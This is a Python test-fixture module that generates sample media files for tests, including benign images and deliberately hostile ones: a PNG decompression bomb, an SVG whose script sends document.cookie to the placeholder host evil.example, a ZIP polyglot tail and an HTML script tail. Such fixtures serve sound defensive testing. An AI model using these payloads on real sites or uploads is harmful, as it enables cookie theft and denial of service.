"""Files built in memory for the tests: real images made with Pillow, and hostile ones."""

from __future__ import annotations

import io
import struct
import zlib

from PIL import Image


def jpeg(size: tuple[int, int] = (64, 48), colour: str = "navy", **save: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, colour).save(out, "JPEG", **save)
    return out.getvalue()


def png(size: tuple[int, int] = (40, 30), colour: str = "orange") -> bytes:
    out = io.BytesIO()
    Image.new("RGBA", size, colour).save(out, "PNG")
    return out.getvalue()


def noisy_png(size: tuple[int, int] = (200, 200)) -> bytes:
    out = io.BytesIO()
    Image.effect_noise(size, 60).convert("RGB").save(out, "PNG")
    return out.getvalue()


def jpeg_with_gps() -> bytes:
    """A portrait photo (EXIF orientation 6) carrying GPS coordinates and a camera serial."""
    exif = Image.Exif()
    exif[0x0112] = 6  # orientation: rotate 90° clockwise to display
    exif[0x010F] = "SecretCam"  # make
    exif[0xA431] = "SERIAL-12345"  # body serial number
    gps = exif.get_ifd(0x8825)
    gps[1] = "N"
    gps[2] = (25.0, 12.0, 34.56)
    gps[3] = "E"
    gps[4] = (55.0, 16.0, 7.89)
    out = io.BytesIO()
    Image.new("RGB", (80, 40), "green").save(out, "JPEG", exif=exif.tobytes())
    return out.getvalue()


def animated_gif(frames: int = 3) -> bytes:
    colours = ("red", "green", "blue", "white")
    images = [Image.new("RGB", (32, 24), colours[i % 4]) for i in range(frames)]
    out = io.BytesIO()
    images[0].save(
        out, "GIF", save_all=True, append_images=images[1:],
        duration=[100 * (i + 1) for i in range(frames)],
        loop=0, comment=b"hidden comment",
    )
    return out.getvalue()


def _png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_bomb(width: int = 100_000, height: int = 100_000) -> bytes:
    """A tiny file whose header declares ten gigapixels."""
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _png_chunk(b"IHDR", header)
        + _png_chunk(b"IDAT", zlib.compress(b"\0" * 64))
        + _png_chunk(b"IEND", b"")
    )


SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
    b'<script>fetch("https://evil.example/?c="+document.cookie)</script>'
    b'<image href="https://evil.example/track.png"/></svg>'
)

ZIP_TAIL = b"PK\x03\x04\x14\x00\x00\x00\x08\x00" + b"payload.exe" + b"\x00" * 40 + b"PK\x05\x06"
HTML_TAIL = b"<html><script>alert(document.domain)</script></html>"


def _box(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", 8 + len(payload)) + kind + payload


def mp4(duration_units: int = 9000, timescale: int = 1000) -> bytes:
    """A structurally valid MP4: ftyp, moov (mvhd + one video trak with tkhd), mdat."""
    ftyp = _box(b"ftyp", b"isom" + b"\x00\x00\x02\x00" + b"isomiso2avc1mp41")
    mvhd = _box(
        b"mvhd",
        b"\x00\x00\x00\x00" + struct.pack(">IIII", 0, 0, timescale, duration_units) + b"\x00" * 80,
    )
    tkhd_payload = b"\x00\x00\x00\x03" + b"\x00" * 72 + struct.pack(">II", 640 << 16, 360 << 16)
    trak = _box(b"trak", _box(b"tkhd", tkhd_payload))
    moov = _box(b"moov", mvhd + trak)
    return ftyp + moov + _box(b"mdat", b"\x00" * 256)


def webm() -> bytes:
    # EBML header with DocType "webm", then the start of a Segment.
    doctype = b"\x42\x82\x84webm"
    header = b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(doctype)]) + doctype
    return header + b"\x18\x53\x80\x67\x01\x00\x00\x00\x00\x00\x00\x10" + b"\x00" * 16
